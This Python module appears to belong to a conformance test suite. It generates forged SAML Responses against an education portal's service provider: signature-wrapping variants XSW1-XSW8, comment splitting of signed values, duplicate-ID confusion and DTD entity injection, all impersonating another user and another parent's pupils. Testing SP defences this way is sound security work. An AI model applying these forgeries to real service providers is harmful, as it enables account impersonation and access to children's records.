"""Attacks on a validly signed SAML Response, as a conformance suite sends them to
an ENT's service provider (each one must be refused, or at worst read as the
signed user: never as the forged one).

Every attack takes the decoded XML of a Response the IdP signed for a real login
(Response and Assertion both signed, enveloped signatures, exclusive c14n) and
returns the attacked XML. The forged content is a `Forgery`: another NameID and
other attribute values (FrEduCtRefId, FrEduCtId: another parent's pupils), written
where a naive SP reads them.

- xsw1 ... xsw8: the XML Signature Wrapping variants of "On Breaking SAML"
  (Somorovsky et al., USENIX Security 2012), in SAML Raider's numbering;
- comment-in-nameid, comment-in-attribute: a comment inside a signed value
  (CVE-2017-11427 family);
- id-confusion: duplicate IDs, the genuine signed elements hidden behind forged ones;
- doctype: a DTD with internal entities.

Entry point: `ATTACKS[name](xml, **options)`; `ATTACKS[name].description` (or
`DESCRIPTIONS[name]`) says in one line what it does.
"""
from __future__ import annotations

import copy
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

from lxml import etree

from .attributes import NAME_FORMAT, OIDS

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"

RESPONSE = f"{{{SAMLP}}}Response"
EXTENSIONS = f"{{{SAMLP}}}Extensions"
ASSERTION = f"{{{SAML}}}Assertion"
ISSUER = f"{{{SAML}}}Issuer"
SUBJECT = f"{{{SAML}}}Subject"
NAME_ID = f"{{{SAML}}}NameID"
CONDITIONS = f"{{{SAML}}}Conditions"
ADVICE = f"{{{SAML}}}Advice"
ATTRIBUTE_STATEMENT = f"{{{SAML}}}AttributeStatement"
ATTRIBUTE = f"{{{SAML}}}Attribute"
ATTRIBUTE_VALUE = f"{{{SAML}}}AttributeValue"
SIGNATURE = f"{{{DS}}}Signature"
OBJECT = f"{{{DS}}}Object"

EVIL_RESPONSE_ID = "_evil_response"
EVIL_ASSERTION_ID = "_evil_assertion"


@dataclass(frozen=True)
class Forgery:
    """Who the attacker wants to be: the values written where a naive SP reads."""

    name_id: str = "v.durand42"
    # by FriendlyName; replaces the attribute's values (adds the attribute if absent)
    attributes: Mapping[str, tuple[str, ...]] = field(default_factory=lambda: {
        "FrEduCtRefId": ("{AAF}24|0941234A|6666666",),
        "FrEduCtId": ("f" * 96,),
    })


FORGERY = Forgery()


# -- XML Signature Wrapping (SAML Raider's XSW1-XSW8) -------------------------------


def xsw1(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Response wrapped: the signed Response, unsigned, inside the Signature of a forged Response with a new ID."""
    root = _parse(xml)
    _response(root)
    genuine = _unsigned_copy(root)
    _forge_response(root, forgery)
    _signature(root).append(genuine)
    root.set("ID", EVIL_RESPONSE_ID)
    return _serialize(root)


def xsw2(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Response wrapped: the signed Response, unsigned, just before the Signature of a forged Response with a new ID."""
    root = _parse(xml)
    _response(root)
    genuine = _unsigned_copy(root)
    _forge_response(root, forgery)
    _signature(root).addprevious(genuine)
    root.set("ID", EVIL_RESPONSE_ID)
    return _serialize(root)


def xsw3(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Assertion wrapped: an unsigned forged Assertion with a new ID inserted before the signed one."""
    root = _parse(xml)
    genuine = _assertion(root)
    evil = _unsigned_copy(genuine)
    _forge(evil, forgery)
    evil.set("ID", EVIL_ASSERTION_ID)
    genuine.addprevious(evil)
    return _serialize(root)


def xsw4(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Assertion wrapped: an unsigned forged Assertion with a new ID in its place, the signed one as its last child."""
    root = _parse(xml)
    genuine = _assertion(root)
    evil = _unsigned_copy(genuine)
    _forge(evil, forgery)
    evil.set("ID", EVIL_ASSERTION_ID)
    evil.tail, genuine.tail = genuine.tail, None
    root.replace(genuine, evil)
    evil.append(genuine)
    return _serialize(root)


def xsw5(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Assertion wrapped: the forged Assertion keeps its Signature, new ID; unsigned genuine copy ends the Response."""
    root = _parse(xml)
    evil = _assertion(root)
    genuine = _unsigned_copy(evil)
    _forge(evil, forgery)
    evil.set("ID", EVIL_ASSERTION_ID)
    root.append(genuine)
    return _serialize(root)


def xsw6(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Assertion wrapped: the forged Assertion keeps its Signature, new ID; unsigned genuine copy in that Signature."""
    root = _parse(xml)
    evil = _assertion(root)
    genuine = _unsigned_copy(evil)
    _forge(evil, forgery)
    evil.set("ID", EVIL_ASSERTION_ID)
    _signature(evil).append(genuine)
    return _serialize(root)


def xsw7(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Assertion wrapped: an unsigned forged copy (same ID) in a samlp:Extensions ahead of the signed Assertion."""
    root = _parse(xml)
    genuine = _assertion(root)
    evil = _unsigned_copy(genuine)
    _forge(evil, forgery)
    extensions = etree.Element(EXTENSIONS)
    extensions.append(evil)
    # schema order: Issuer, Signature, Extensions, Status, Assertion
    before = [child for child in root if child.tag in (ISSUER, SIGNATURE)]
    if before:
        before[-1].addnext(extensions)
    else:
        root.insert(0, extensions)
    return _serialize(root)


def xsw8(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Assertion wrapped: the forged Assertion keeps Signature and ID; an unsigned genuine copy in a ds:Object of it."""
    root = _parse(xml)
    evil = _assertion(root)
    genuine = _unsigned_copy(evil)
    _forge(evil, forgery)
    obj = etree.SubElement(_signature(evil), OBJECT)
    obj.append(genuine)
    return _serialize(root)


# -- comments in signed values (CVE-2017-11427 family) ---------------------------------


def comment_in_nameid(xml: str, *, cut: int = -1) -> str:
    """A comment splits the signed NameID text: a reader taking the first text node gets another, shorter NameID."""
    root = _parse(xml)
    name_id = _assertion(root).find(f"{SUBJECT}/{NAME_ID}")
    if name_id is None:
        raise ValueError("the Assertion has no Subject/NameID")
    _split_with_comment(name_id, cut)
    return _serialize(root)


def comment_in_attribute(xml: str, *, name: str = "FrEduCtRefId", cut: int = -1) -> str:
    """A comment splits each signed value of an attribute (FrEduCtRefId): a first-text-node reader gets other values."""
    root = _parse(xml)
    values = [value for attribute in _attributes(_assertion(root), name) for value in attribute.iter(ATTRIBUTE_VALUE)]
    if not values:
        raise ValueError(f"the Assertion has no {name} value")
    for value in values:
        _split_with_comment(value, cut)
    return _serialize(root)


# -- ID confusion ----------------------------------------------------------------------


def id_confusion(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """Duplicate IDs: forged Response and Assertion reuse the genuine IDs and Signatures; signed Response in Advice."""
    # Document order: forged Response (ID R), forged Assertion (ID A), genuine Response (R),
    # genuine Assertion (A). A verifier resolving an ID to its last occurrence checks the
    # genuine elements (both signatures hold); the reader takes the forged ones. Schema-valid:
    # saml:Advice takes any element of another namespace.
    root = _parse(xml)
    _response(root)
    genuine = copy.deepcopy(root)
    assertion = _assertion(root)
    _forge(assertion, forgery)
    advice = etree.Element(ADVICE)
    advice.append(genuine)
    # schema order: Issuer, Signature, Subject, Conditions, Advice, statements
    before = [child for child in assertion if child.tag in (ISSUER, SIGNATURE, SUBJECT, CONDITIONS)]
    if before:
        before[-1].addnext(advice)
    else:
        assertion.insert(0, advice)
    return _serialize(root)


# -- DTD -----------------------------------------------------------------------------------


def doctype(xml: str, *, forgery: Forgery = FORGERY) -> str:
    """A DOCTYPE whose internal entities expand to the forged NameID and attribute values (an SP must refuse DTDs)."""
    root = _parse(xml)
    marks: dict[str, tuple[str, str]] = {}  # placeholder -> (entity name, value)

    def mark(entity: str, value: str) -> str:
        placeholder = f"\ue000{len(marks)}\ue000"
        marks[placeholder] = (entity, value)
        return placeholder

    forged = Forgery(
        name_id=mark("nameid", forgery.name_id),
        attributes={name: tuple(mark(f"{name}{i}", v) for i, v in enumerate(values))
                    for name, values in forgery.attributes.items()},
    )
    _forge(_assertion(root), forged)
    body = _serialize(root)
    declarations = []
    for placeholder, (entity, value) in marks.items():
        body = body.replace(placeholder, f"&{entity};")
        declarations.append(f'<!ENTITY {entity} "{_entity_literal(value)}">')
    qname = f"{root.prefix}:Response" if root.prefix else "Response"
    return f"<!DOCTYPE {qname} [\n" + "\n".join(declarations) + "\n]>\n" + body


# -- registry ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    name: str
    function: Callable[..., str]

    @property
    def description(self) -> str:
        return (self.function.__doc__ or "").strip().splitlines()[0]

    def __call__(self, xml: str, **options) -> str:
        return self.function(xml, **options)


ATTACKS: dict[str, Attack] = {attack.name: attack for attack in (
    Attack("xsw1", xsw1),
    Attack("xsw2", xsw2),
    Attack("xsw3", xsw3),
    Attack("xsw4", xsw4),
    Attack("xsw5", xsw5),
    Attack("xsw6", xsw6),
    Attack("xsw7", xsw7),
    Attack("xsw8", xsw8),
    Attack("comment-in-nameid", comment_in_nameid),
    Attack("comment-in-attribute", comment_in_attribute),
    Attack("id-confusion", id_confusion),
    Attack("doctype", doctype),
)}
DESCRIPTIONS: dict[str, str] = {name: attack.description for name, attack in ATTACKS.items()}


# -- tree surgery --------------------------------------------------------------------------


def _parse(xml: str | bytes) -> etree._Element:
    data = xml.encode("utf-8") if isinstance(xml, str) else bytes(xml)
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False)
    return etree.fromstring(data, parser)


def _serialize(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


def _response(root: etree._Element) -> etree._Element:
    if root.tag != RESPONSE:
        raise ValueError(f"not a samlp:Response but {root.tag}")
    return root


def _assertion(root: etree._Element) -> etree._Element:
    """The Response's (first) Assertion, a child of it."""
    assertion = _response(root).find(ASSERTION)
    if assertion is None:
        raise ValueError("the Response holds no plain Assertion")
    return assertion


def _signature(element: etree._Element) -> etree._Element:
    signature = element.find(SIGNATURE)
    if signature is None:
        raise ValueError(f"{etree.QName(element).localname} {element.get('ID')} is not signed")
    return signature


def _detach(element: etree._Element) -> None:
    """Remove `element`, leaving the text that followed it in place (whitespace is signed too)."""
    parent = element.getparent()
    if element.tail:
        previous = element.getprevious()
        if previous is not None:
            previous.tail = (previous.tail or "") + element.tail
        else:
            parent.text = (parent.text or "") + element.tail
        element.tail = None
    parent.remove(element)


def _unsigned_copy(element: etree._Element) -> etree._Element:
    """A copy of `element` as its enveloped signature covers it: without its own Signature."""
    clone = copy.deepcopy(element)
    clone.tail = None
    signature = clone.find(SIGNATURE)
    if signature is not None:
        _detach(signature)
    return clone


def _forge_response(response: etree._Element, forgery: Forgery) -> None:
    assertions = response.findall(ASSERTION)
    if not assertions:
        raise ValueError("the Response holds no plain Assertion")
    for assertion in assertions:
        _forge(assertion, forgery)


def _forge(assertion: etree._Element, forgery: Forgery) -> None:
    """Write the forged NameID and attribute values into `assertion` (in place)."""
    name_id = assertion.find(f"{SUBJECT}/{NAME_ID}")
    if name_id is None:
        raise ValueError("the Assertion has no Subject/NameID")
    for child in list(name_id):
        _detach(child)
    name_id.text = forgery.name_id
    for name, values in forgery.attributes.items():
        found = _attributes(assertion, name)
        if not found:
            statement = assertion.find(ATTRIBUTE_STATEMENT)
            if statement is None:
                statement = etree.SubElement(assertion, ATTRIBUTE_STATEMENT)
            attribute = etree.SubElement(statement, ATTRIBUTE, Name=OIDS.get(name, name), NameFormat=NAME_FORMAT,
                                         FriendlyName=name)
            found = [attribute]
        for attribute in found:
            old = attribute.findall(ATTRIBUTE_VALUE)
            template = old[0] if old else etree.Element(ATTRIBUTE_VALUE)
            for value in old:
                attribute.remove(value)
            for text in values:
                new = copy.deepcopy(template)
                for child in list(new):
                    new.remove(child)
                new.text, new.tail = text, None
                attribute.append(new)


def _attributes(assertion: etree._Element, name: str) -> list[etree._Element]:
    """The Attribute elements of `assertion` for a FriendlyName (or its OID)."""
    oid = OIDS.get(name, name)
    return [attribute for statement in assertion.findall(ATTRIBUTE_STATEMENT)
            for attribute in statement.findall(ATTRIBUTE)
            if attribute.get("FriendlyName") == name or attribute.get("Name") == oid]


def _split_with_comment(element: etree._Element, cut: int) -> None:
    """`element`'s text T becomes T[:cut] <!----> T[cut:] (same canonical form, so same signature)."""
    if len(element):
        raise ValueError(f"{etree.QName(element).localname} has child elements")
    text = element.text or ""
    at = cut if cut >= 0 else len(text) + cut
    if not 0 < at < len(text):
        raise ValueError(f"cannot cut {text!r} at {cut}: both parts must be non-empty")
    comment = etree.Comment("")
    comment.tail = text[at:]
    element.text = text[:at]
    element.append(comment)


def _entity_literal(value: str) -> str:
    """`value` as the replacement text of an internal entity (markup characters stay text)."""
    return (value.replace("&", "&#38;#38;").replace("<", "&#38;#60;")
            .replace("%", "&#37;").replace('"', "&#34;"))
